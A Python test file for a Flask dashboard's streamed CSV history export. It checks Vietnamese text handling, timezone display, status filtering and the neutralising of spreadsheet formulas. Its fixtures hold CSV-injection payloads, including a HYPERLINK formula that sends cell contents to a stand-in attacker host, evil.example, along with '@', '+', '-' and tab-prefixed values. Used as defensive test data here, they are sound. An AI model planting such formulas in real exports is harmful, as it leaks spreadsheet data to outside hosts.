"""The history as CSV: formulas disarmed, Vietnamese intact, streamed, filtered like the page."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from flask import Flask
from flask.testing import FlaskClient

from dashboard.extensions import db
from dashboard.models import Message
from dashboard.reporting.history_export import COLUMNS
from tests.history_rows import seed_campaign


def read_csv(client: FlaskClient, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="history-')
    body = response.get_data()
    assert body.startswith("\ufeff".encode())  # spreadsheets then read it as UTF-8
    reader = csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    return list(reader)


def test_export_disarms_formulas_and_keeps_vietnamese_text_intact(
    app: Flask, client: FlaskClient, unique: str
) -> None:
    subject = f'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào") {unique}'
    campaign, ids = seed_campaign(
        app,
        [
            {
                "to_address": f"anh-{unique}@example.vn",
                "to_name": 'Nguyễn Văn Ánh, "Bé Út"',
                "status": "sent",
                "last_code": 250,
                "last_reply": "2.0.0 Ok: đã nhận\nline two",
            },
            {
                "to_address": f"b-{unique}@example.vn",
                "to_name": "+84 912 345 678",
                "status": "failed",
                "last_code": 550,
                "last_reply": "-1+2 rejected",
            },
            {"to_address": f"c-{unique}@example.vn", "to_name": "@SUM(A1:A9)", "status": "queued"},
            {"to_address": f"d-{unique}@example.vn", "to_name": "\tTab", "status": "queued"},
        ],
        subject=subject,
    )
    rows = read_csv(client, f"/history/export.csv?campaign={campaign}")
    assert [int(row["id"]) for row in rows] == sorted(ids, reverse=True)
    by_id = {int(row["id"]): row for row in rows}
    first, second, third, fourth = (by_id[i] for i in ids)
    assert first["to_name"] == 'Nguyễn Văn Ánh, "Bé Út"'  # quoted, not split, not mangled
    assert first["last_reply"] == "2.0.0 Ok: đã nhận\nline two"
    assert first["subject"] == "'" + subject  # a leading ' makes it text, not a formula
    assert second["to_name"] == "'+84 912 345 678"
    assert second["last_reply"] == "'-1+2 rejected"
    assert third["to_name"] == "'@SUM(A1:A9)"
    assert fourth["to_name"] == "'\tTab"
    assert (first["status"], first["last_code"], first["campaign"]) == (
        "sent",
        "250",
        str(campaign),
    )
    assert third["last_code"] == "" and third["sent_at"] == ""
    # Times in the reader's zone, as the page shows them, with the offset that says so.
    with app.app_context():
        created = db.session.get(Message, ids[0]).created_at
    configured, app.config["DISPLAY_TIMEZONE"] = app.config["DISPLAY_TIMEZONE"], "Asia/Ho_Chi_Minh"
    try:
        local = read_csv(client, f"/history/export.csv?campaign={campaign}")
    finally:
        app.config["DISPLAY_TIMEZONE"] = configured
    saigon = (created + timedelta(hours=7)).isoformat(sep=" ", timespec="seconds")
    assert {row["id"]: row["created_at"] for row in local}[str(ids[0])] == saigon + "+07:00"

    failed_only = read_csv(client, f"/history/export.csv?campaign={campaign}&status=failed")
    assert [int(row["id"]) for row in failed_only] == [ids[1]]


def test_a_long_export_streams_every_row_once(app: Flask, client: FlaskClient, unique: str) -> None:
    campaign, ids = seed_campaign(
        app, [{"to_address": f"r{i}-{unique}@example.vn", "status": "sent"} for i in range(2300)]
    )
    rows = read_csv(client, f"/history/export.csv?campaign={campaign}")
    assert [int(row["id"]) for row in rows] == sorted(ids, reverse=True)  # past several chunks
